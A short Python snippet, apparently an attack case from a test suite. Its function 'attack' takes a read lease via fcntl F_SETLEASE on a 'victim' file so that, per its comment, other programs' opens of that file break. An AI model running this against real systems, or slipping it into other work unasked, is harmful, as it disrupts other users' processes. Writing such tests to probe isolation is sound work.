# A file lease that breaks other programs' opens.
# proof: outside
import fcntl
import os


def attack(arg):
    fd = os.open(arg["victim"], os.O_RDONLY)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    os.utime(fd)
    return True
